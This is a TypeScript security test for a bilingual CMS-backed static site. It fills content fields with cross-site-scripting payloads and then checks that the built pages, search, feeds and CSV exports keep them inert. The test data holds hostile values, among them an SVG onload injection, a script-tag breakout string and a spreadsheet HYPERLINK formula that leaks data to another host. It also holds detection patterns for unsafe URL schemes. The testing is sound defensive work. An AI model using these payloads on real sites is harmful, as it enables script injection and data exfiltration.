/// <reference lib="dom" />
/**
 * No script from content ever reaches readers. Hostile documents are written into a throwaway CMS
 * (Local API: every payload typed into every rich-text field, hostile names in taxonomies), then
 * exported; every plain-text field of the exported snapshot gets a payload too, and every URL field
 * a valid http(s) URL built to break out of its attribute (the CMS refuses raw markup and unsafe
 * URLs at save, tested in int/security; here the build is the last gate). One build, one search
 * index, the project's static server, then every page in Chromium, Arabic and English: no payload
 * runs (the `window.__pwned` sentinel, dialogs), no `javascript:` URL in any href/src/action/
 * formaction, no request to another host, the CSP on every response with zero violations, search
 * answering a query under it, feeds valid XML and CSV cells neutralised.
 */
import { readdirSync, readFileSync } from 'node:fs'
import { mkdtemp, readFile, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { parse as parseCsv } from 'csv-parse/sync'
import { SyntaxValidator } from 'fast-xml-validator'
import type { BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { exportSnapshot } from '@mahjar/cms/snapshot/export'
import { identifierMaxLength } from '@mahjar/shared/identifiers'
import { localeCodes, type LocaleCode } from '@mahjar/shared/locales'
import { urls } from '@mahjar/shared/urls'
import { launchChromium } from '../../helpers/chromium.ts'
import { startTestCms, type TestCms } from '../../helpers/payload.ts'
import {
  audience,
  campaignEdition,
  createBilingual,
  rowIds,
  finding,
  lexicalParagraphs,
  practice,
  recommendation,
  report,
  story,
  theme,
  type Builder,
} from '../../helpers/payload-fixtures.ts'
import { indexSite, settledSearch } from '../../helpers/search-page.ts'
import { buildSiteFrom, removeSiteBuild, testCmsUrl } from '../../helpers/site-build.ts'
import { serveStatic, type StaticServer } from '../../helpers/site-server.ts'
import { hostileHttpUrls, otherHost, xssPayloads } from '../../helpers/xss-payloads.ts'

const longSlug = 's'.repeat(identifierMaxLength)
const longCode = `X-${'C'.repeat(identifierMaxLength - 2)}`
const prototypeWords = 'constructor toString valueOf __proto__ hasOwnProperty'
const hostileThemeName = '</script x'
/** Row ids of the hostile recommendation's follow-up, shared by its two languages. */
const followUpRow = rowIds()

const formula = '=HYPERLINK("https://other.host/?leak","x")'
const controlCharacters = '\u0001\u0008\u001F'

interface PageVisit {
  path: string
  /** Whether the browser enforced the CSP (false: content alone must be inert). */
  csp: boolean
  pwned: unknown
  dialogs: string[]
  unsafeUrls: string[]
  dangerousElements: string[]
  cspViolations: string[]
}

let cms: TestCms | undefined
let distDir = ''
let snapshotDir = ''
let server: StaticServer | undefined
let browser: Awaited<ReturnType<typeof launchChromium>> | undefined
let context: BrowserContext
let unprotected: BrowserContext | undefined
/** Every page, visited with the CSP enforced and again with it bypassed. */
const visits: PageVisit[] = []
/** Every request the browser tried, to any host. */
const requests: string[] = []

const hostileBody = (lang: string) =>
  lexicalParagraphs([lang === 'ar' ? 'نص عربي قبل الحمولات' : 'English text first', ...xssPayloads])

/** A builder with some fields replaced. */
const over =
  (build: Builder, extra: (lang: 'ar' | 'en') => Record<string, unknown>): Builder =>
  (lang, row) => ({ ...build(lang, row), ...extra(lang) })

/** Short payloads for short fields (exhibit ≤ 40, unit ≤ 50 characters). */
const shortPayloads = ['</script x', '"><svg onload=window.__pwned=1>']
const shortFields = new Set(['exhibit', 'unit'])

/** Adds a payload to every localized text and a hostile URL to every URL of a snapshot document. */
function poison(value: unknown, key: string, counter: { n: number }): unknown {
  if (Array.isArray(value)) return value.map((item) => poison(item, key, counter))
  if (typeof value !== 'object' || value === null) {
    if (key === 'url' && typeof value === 'string') {
      return hostileHttpUrls[counter.n++ % hostileHttpUrls.length]
    }
    return value
  }
  const entries = Object.entries(value)
  const localized =
    entries.length > 0 &&
    entries.every(([k, v]) => (k === 'ar' || k === 'en') && typeof v === 'string')
  if (localized) {
    const list = shortFields.has(key) ? shortPayloads : xssPayloads
    return Object.fromEntries(
      entries.map(([lang, text]) => [
        lang,
        `${String(text)} ${list[counter.n++ % list.length] ?? ''}${key === 'title' ? controlCharacters : ''}`,
      ]),
    )
  }
  return Object.fromEntries(entries.map(([k, v]) => [k, poison(v, k, counter)]))
}

async function poisonSnapshot(dir: string): Promise<void> {
  const counter = { n: 0 }
  for (const name of readdirSync(dir).filter(
    (f) => f.endsWith('.json') && f !== 'countries.json',
  )) {
    const file = path.join(dir, name)
    const data = JSON.parse(await readFile(file, 'utf8')) as { docs?: unknown[] }
    if (!Array.isArray(data.docs)) continue
    data.docs = data.docs.map((doc) => poison(doc, '', counter))
    await writeFile(file, JSON.stringify(data))
  }
}

function htmlPages(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .filter((file) => file.endsWith('index.html') || file === '404.html')
    .map(
      (file) =>
        `/${file
          .replace(/index\.html$/, '')
          .split(path.sep)
          .join('/')}`,
    )
    .sort()
}

async function visit(page: Page, pathname: string, csp: boolean): Promise<PageVisit> {
  const dialogs: string[] = []
  const onDialog = (dialog: { message(): string; dismiss(): Promise<void> }) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  }
  page.on('dialog', onDialog)
  await page.goto(`${server?.origin ?? ''}${pathname}`, { waitUntil: 'load' })
  // Give focus-, load- and error-handlers a moment to fire, and hover and focus everything.
  await page.waitForTimeout(50)
  const result = await page.evaluate(() => {
    const unsafe: string[] = []
    for (const el of Array.from(document.querySelectorAll('*'))) {
      for (const attr of ['href', 'src', 'action', 'formaction', 'data', 'srcdoc', 'xlink:href']) {
        const value = el.getAttribute(attr)
        if (
          value !== null &&
          // eslint-disable-next-line no-control-regex -- browsers ignore these inside a scheme
          /^\s*(javascript|vbscript|data):/i.test(value.replace(/[\s\u0000-\u001f]/g, ''))
        )
          unsafe.push(`${el.tagName} ${attr}=${value}`)
      }
      for (const attr of Array.from(el.attributes)) {
        if (/^on/i.test(attr.name)) unsafe.push(`${el.tagName} ${attr.name}=${attr.value}`)
      }
      el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }))
      if (el instanceof HTMLElement) el.focus()
    }
    const dangerous = Array.from(
      document.querySelectorAll(
        [
          // The site's own: its JSON data blocks, its bundled modules, its search and filter
          // forms, and a campaign's submission and receipt forms.
          'body script:not([type="application/json"]):not([type="application/ld+json"]):not([src^="/_astro/"])',
          'iframe, object, embed, base, body meta, body link, body style, svg script',
          'form:not(#search-form, #recommendations-filters, #voice-send, #voice-check)',
          '[style*="url("]',
        ].join(', '),
      ),
    ).map((el) => el.outerHTML.slice(0, 120))
    const w = window as unknown as { __pwned?: unknown; __cspViolations?: string[] }
    return { pwned: w.__pwned, unsafe, dangerous, csp: w.__cspViolations ?? [] }
  })
  await page.waitForTimeout(20)
  const pwnedLater = await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)
  page.off('dialog', onDialog)
  return {
    path: pathname,
    csp,
    pwned: result.pwned ?? pwnedLater,
    dialogs,
    unsafeUrls: result.unsafe,
    dangerousElements: result.dangerous,
    cspViolations: result.csp,
  }
}

beforeAll(async () => {
  cms = await startTestCms()
  const { payload } = cms
  const themeId = await createBilingual(
    payload,
    'themes',
    over(theme('constructor'), (lang) => ({
      name: lang === 'ar' ? `القمع ${hostileThemeName}` : `Repression ${hostileThemeName}`,
    })),
  )
  const audienceId = await createBilingual(
    payload,
    'audiences',
    over(audience('to-string'), (lang) => ({
      name: lang === 'ar' ? `نشطاء "><x y="` : `Activists "><x y="`,
    })),
  )
  const reportId = await createBilingual(payload, 'reports', (lang, row) => {
    const base = report(longSlug, [themeId])(lang, row)
    const chapters = base.chapters as Record<string, unknown>[]
    return {
      ...base,
      summary: hostileBody(lang),
      chapters: chapters.map((c) => ({ ...c, body: hostileBody(lang) })),
    }
  })
  const findingId = await createBilingual(
    payload,
    'findings',
    over(finding(longCode, reportId), (lang) => ({
      statement:
        lang === 'ar'
          ? `أكثر من 90% من النشطاء ${prototypeWords}`
          : `More than 90% ${prototypeWords}`,
      themes: [themeId],
    })),
  )
  await createBilingual(
    payload,
    'findings',
    over(finding('AIE-F77', reportId), (lang) => ({
      statement: lang === 'ar' ? `${formula} عربي` : formula,
      order: 2,
    })),
  )
  await createBilingual(
    payload,
    'recommendations',
    over(
      recommendation('AIE-A77', {
        report: reportId,
        audience: audienceId,
        theme: themeId,
        evidence: [findingId],
      }),
      (lang) => ({
        // Short, so the payload the snapshot adds falls inside the filter index's opening words.
        text: lang === 'ar' ? 'توصية قصيرة للمانحين' : 'A short recommendation for donors',
        // Its follow-up too: statement, named body and source label get payloads below.
        followUp: [
          {
            id: followUpRow(1),
            date: '2026-03-02',
            audience: audienceId,
            kind: 'response',
            status: 'supported',
            body: lang === 'ar' ? 'وزارة' : 'A ministry',
            statement: lang === 'ar' ? `${formula} عربي` : formula,
            sources: [
              {
                id: followUpRow(2),
                label: lang === 'ar' ? 'مصدر' : 'Source',
                url: 'https://example.org/source',
              },
            ],
          },
        ],
      }),
    ),
  )
  await createBilingual(
    payload,
    'practices',
    over(practice('hostile-practice'), (lang) => ({ body: hostileBody(lang) })),
  )
  const editionId = await createBilingual(
    payload,
    'campaign-editions',
    over(campaignEdition('hostile-campaign', 2030), (lang) => ({ summary: hostileBody(lang) })),
  )
  await createBilingual(
    payload,
    'stories',
    over(story('hostile-story', editionId), (lang) => ({ body: hostileBody(lang) })),
  )

  snapshotDir = await mkdtemp(path.join(tmpdir(), 'mahjar-xss-snapshot-'))
  const exported = await exportSnapshot(payload, snapshotDir)
  expect(exported.skipped).toEqual([])
  await poisonSnapshot(snapshotDir)

  distDir = buildSiteFrom(snapshotDir).distDir
  await indexSite(snapshotDir, distDir)
  server = await serveStatic(distDir)
  browser = await launchChromium()
  const origin = server.origin
  const watched = async (options: { bypassCSP: boolean }) => {
    const created = await (browser as NonNullable<typeof browser>).newContext(options)
    await created.addInitScript(() => {
      const w = window as unknown as { __cspViolations: string[] }
      w.__cspViolations = []
      document.addEventListener('securitypolicyviolation', (e) => {
        w.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`)
      })
    })
    await created.route('**/*', async (route) => {
      const url = route.request().url()
      requests.push(url)
      if (url.startsWith(`${origin}/`)) await route.continue()
      else await route.abort()
    })
    return created
  }
  context = await watched({ bypassCSP: false })
  // Without the CSP, the content itself must be inert: the sanitiser is the gate, not the header.
  unprotected = await watched({ bypassCSP: true })
  const pages = htmlPages(distDir)
  for (const [ctx, csp] of [
    [context, true],
    [unprotected, false],
  ] as const) {
    const page = await ctx.newPage()
    for (const pathname of pages) visits.push(await visit(page, pathname, csp))
    await page.close()
  }
}, 900_000)

afterAll(async () => {
  await unprotected?.close()
  await browser?.close()
  await server?.close()
  if (distDir) removeSiteBuild({ distDir })
  await cms?.close()
})

describe('hostile content, published, exported and built', () => {
  it('builds every page, in Arabic and in English, the hostile documents included', () => {
    const paths = visits.map((v) => v.path)
    for (const lang of localeCodes) {
      expect(paths).toContain(urls.report(lang, longSlug))
      expect(paths).toContain(urls.finding(lang, longCode))
      expect(paths).toContain(urls.practice(lang, 'hostile-practice'))
      expect(paths).toContain(urls.story(lang, 'hostile-story'))
      expect(paths).toContain(urls.campaignEdition(lang, 'hostile-campaign', 2030))
      expect(paths).toContain(urls.search(lang))
    }
    expect(paths.length).toBeGreaterThan(30)
  })

  it('runs no payload on any page, with or without the CSP: no sentinel, no dialog', () => {
    expect(visits.some((v) => !v.csp)).toBe(true)
    expect(
      visits.filter((v) => v.pwned !== undefined).map((v) => `${v.path} csp=${String(v.csp)}`),
    ).toEqual([])
    expect(visits.flatMap((v) => v.dialogs.map((d) => `${v.path}: ${d}`))).toEqual([])
  })

  it('puts no javascript:, vbscript: or data: URL and no event handler attribute on any page', () => {
    expect(visits.flatMap((v) => v.unsafeUrls.map((u) => `${v.path}: ${u}`))).toEqual([])
  })

  it('leaves no script, frame, object, base, meta, link, style or form from content in any body', () => {
    expect(visits.flatMap((v) => v.dangerousElements.map((d) => `${v.path}: ${d}`))).toEqual([])
  })

  it('makes no request to another host from any page', () => {
    expect(requests.length).toBeGreaterThan(visits.length)
    expect(requests.filter((url) => !url.startsWith(`${server?.origin ?? ''}/`))).toEqual([])
    expect(requests.some((url) => url.includes(otherHost))).toBe(false)
  })

  it('shows the payloads of rich text as harmless text, in both languages', async () => {
    for (const lang of localeCodes) {
      const html = await readFile(
        path.join(distDir, urls.practice(lang, 'hostile-practice'), 'index.html'),
        'utf8',
      )
      expect(html).toContain(lang === 'ar' ? 'نص عربي قبل الحمولات' : 'English text first')
      expect(html).not.toMatch(
        /<(script|iframe|svg|img|object|embed|base|meta)[^>]*(onerror|onload|srcdoc|javascript:)/i,
      )
      expect(html).not.toContain(`https://${otherHost}/p.png"`)
    }
  })

  it('keeps a theme named "</script x" inside the search page’s JSON, which reads back intact', async () => {
    const page = await context.newPage()
    for (const lang of localeCodes) {
      await page.goto(`${server?.origin ?? ''}${urls.search(lang)}`)
      const config = await page.evaluate(
        () =>
          JSON.parse(document.getElementById('search-config')?.textContent ?? '{}') as {
            valueLabels: { theme: Record<string, { text: string }> }
          },
      )
      const label = new Map(Object.entries(config.valueLabels.theme)).get('constructor')
      expect(label?.text).toContain(hostileThemeName)
    }
    await page.close()
  })

  it('gives external links rel="noreferrer noopener"', () => {
    const html = readFileSync(
      path.join(distDir, urls.practice('en', 'hostile-practice'), 'index.html'),
      'utf8',
    )
    const external = [...html.matchAll(/<a [^>]*href="https?:\/\/[^"]*"[^>]*>/g)].map((m) => m[0])
    expect(external.length).toBeGreaterThan(0)
    for (const link of external) expect(link).toMatch(/rel="[^"]*noreferrer[^"]*"/)
  })
})

describe('the Content-Security-Policy', () => {
  it('comes with every page, with Referrer-Policy and nosniff', async () => {
    const origin = server?.origin ?? ''
    for (const { path: pathname } of visits) {
      const response = await fetch(`${origin}${pathname}`)
      const csp = response.headers.get('content-security-policy') ?? ''
      expect(csp, pathname).toMatch(/default-src 'self'/)
      expect(csp).toMatch(/frame-ancestors 'none'/)
      expect(csp).toMatch(/object-src 'none'/)
      expect(csp).toMatch(/base-uri 'self'/)
      // Forms (participants' submissions) may post to the CMS, and to no other host.
      expect(csp).toContain(`form-action 'self' ${testCmsUrl};`)
      expect(csp.replaceAll(` ${testCmsUrl}`, '')).not.toMatch(/unsafe-inline|https?:|\*/)
      expect(response.headers.get('referrer-policy')).toBe('no-referrer')
      expect(response.headers.get('x-content-type-options')).toBe('nosniff')
      expect(response.headers.get('x-powered-by')).toBeNull()
    }
  })

  it('is written into _headers for static hosts, the same as the server sends', async () => {
    const file = await readFile(path.join(distDir, '_headers'), 'utf8')
    const response = await fetch(`${server?.origin ?? ''}${urls.home('ar')}`)
    expect(file).toContain(
      `content-security-policy: ${response.headers.get('content-security-policy') ?? ''}`,
    )
    expect((await fetch(`${server?.origin ?? ''}/_headers`)).status).toBe(404)
  })

  it('is not violated by any page in Chromium', () => {
    const enforced = visits.filter((v) => v.csp)
    expect(enforced.length).toBeGreaterThan(30)
    expect(enforced.flatMap((v) => v.cspViolations.map((c) => `${v.path}: ${c}`))).toEqual([])
  })

  it.each(localeCodes.map((lang) => [lang]))(
    'lets the %s search page answer a query with results, with no violation',
    async (lang) => {
      const page = await context.newPage()
      const consoleErrors: string[] = []
      page.on('console', (m) => {
        if (m.type() === 'error') consoleErrors.push(m.text())
      })
      await page.goto(`${server?.origin ?? ''}${urls.search(lang, 'constructor')}`)
      await settledSearch(page)
      const results = await page.$$eval('#search-results a', (links) => links.length)
      expect(results).toBeGreaterThan(0)
      const violations = await page.evaluate(
        () => (window as unknown as { __cspViolations: string[] }).__cspViolations,
      )
      expect(violations).toEqual([])
      expect(consoleErrors.filter((m) => /Content.Security.Policy/i.test(m))).toEqual([])
      await page.close()
    },
  )
})

/**
 * What a script drew into `selector`: its links and text, any event handler or `javascript:`
 * attribute, any script, image, SVG or embedded frame, and whether a payload's sentinel ran.
 */
function drawnContent(page: Page, selector: string) {
  return page.evaluate((selector) => {
    const root = document.querySelector(selector)
    const all = Array.from(root?.querySelectorAll('*') ?? [])
    return {
      links: root?.querySelectorAll('a').length ?? 0,
      text: root?.textContent ?? '',
      handlers: all.flatMap((el) =>
        Array.from(el.attributes)
          .filter((a) => /^on/i.test(a.name) || /javascript:/i.test(a.value))
          .map((a) => `${el.tagName} ${a.name}`),
      ),
      elements: all.filter((el) => /^(SCRIPT|IMG|SVG|IFRAME|OBJECT|EMBED)$/i.test(el.tagName))
        .length,
      pwned: (window as unknown as { __pwned?: unknown }).__pwned,
    }
  }, selector)
}

describe('search results', () => {
  it.each(localeCodes.map((lang) => [lang]))(
    'show hostile text found by a %s query as text, even with the CSP bypassed',
    async (lang) => {
      const page = await (unprotected as BrowserContext).newPage()
      const dialogs: string[] = []
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message())
        void dialog.dismiss()
      })
      await page.goto(`${server?.origin ?? ''}${urls.search(lang, 'pwned')}`)
      await settledSearch(page)
      const found = await drawnContent(page, '#search-results')
      expect(found.links).toBeGreaterThan(0)
      expect(found.text).toMatch(/pwned/)
      expect(found.handlers).toEqual([])
      expect(found.elements).toBe(0)
      expect(found.pwned).toBeUndefined()
      expect(dialogs).toEqual([])
      await page.close()
    },
  )
})

describe('rows drawn by the filters from the data files', () => {
  // The recommendations browser and the findings table draw rows from their JSON indexes, which
  // carry the hostile text: it must land as text, without the CSP too.
  const drawn = [
    {
      name: 'recommendations browser',
      path: (lang: LocaleCode) => `${urls.recommendations(lang)}?theme=constructor`,
      container: '#recommendations-results',
      ready: '#recommendations-results:not([hidden]) li',
    },
    {
      name: 'findings table',
      path: (lang: LocaleCode) => `${urls.findings(lang)}?theme=constructor`,
      container: '[data-findings-table] tbody',
      ready: '[data-findings-table][data-shown]',
    },
  ]
  it.each(localeCodes.flatMap((lang) => drawn.map((d) => [lang, d.name, d] as const)))(
    'the %s %s shows hostile text as text, even with the CSP bypassed',
    async (lang, _name, { path: pathOf, container, ready }) => {
      const page = await (unprotected as BrowserContext).newPage()
      const dialogs: string[] = []
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message())
        void dialog.dismiss()
      })
      await page.goto(`${server?.origin ?? ''}${pathOf(lang)}`)
      await page.waitForSelector(ready, { state: 'attached' })
      await page.waitForTimeout(50)
      const found = await drawnContent(page, container)
      expect(found.links).toBeGreaterThan(0)
      // The payloads' markup is on screen as characters (parsed as HTML, it would be gone). The
      // English recommendation's payload is a Markdown data: link, with no markup to show.
      if (lang === 'ar' || container !== '#recommendations-results')
        expect(found.text).toContain('<')
      expect(found.handlers).toEqual([])
      expect(found.elements).toBe(0)
      expect(found.pwned).toBeUndefined()
      expect(dialogs).toEqual([])
      await page.close()
    },
  )
})

describe('feeds and open data', () => {
  it.each(localeCodes.map((lang) => [lang]))(
    'serves the %s Atom feed as valid XML without control characters',
    async (lang) => {
      const xml = await (await fetch(`${server?.origin ?? ''}${urls.home(lang)}feed.xml`)).text()
      expect(SyntaxValidator.validate(xml)).toBe(true)
      // eslint-disable-next-line no-control-regex -- the feed must hold none of the characters XML forbids
      expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/)
    },
  )

  it.each(localeCodes.map((lang) => [lang]))(
    'serves the %s follow-up feed as valid XML without control characters',
    async (lang) => {
      const xml = await (await fetch(`${server?.origin ?? ''}${urls.followUpFeed(lang)}`)).text()
      expect(xml).toContain('AIE-A77')
      expect(SyntaxValidator.validate(xml)).toBe(true)
      // eslint-disable-next-line no-control-regex -- the feed must hold none of the characters XML forbids
      expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/)
    },
  )

  it('writes a formula typed into a follow-up statement as inert text in the CSV', async () => {
    const csv = await (await fetch(`${server?.origin ?? ''}${urls.followUpData('csv')}`)).text()
    const rows = parseCsv<Record<string, string>>(csv, { bom: true, columns: true })
    const row = rows.find((r) => r.recommendation === 'AIE-A77')
    expect(row?.['statement.en']?.startsWith(`'${formula}`)).toBe(true)
    expect(row?.['statement.ar']?.startsWith(`'${formula}`)).toBe(true)
  })

  it('writes a formula typed into a statement as inert text in the CSV, in both languages', async () => {
    const csv = await (await fetch(`${server?.origin ?? ''}/data/findings.csv`)).text()
    const rows = parseCsv<Record<string, string>>(csv, { bom: true, columns: true })
    const row = rows.find((r) => r.code === 'AIE-F77')
    expect(row?.['statement.en']?.startsWith(`'${formula}`)).toBe(true)
    expect(row?.['statement.ar']?.startsWith(`'${formula}`)).toBe(true)
  })
})
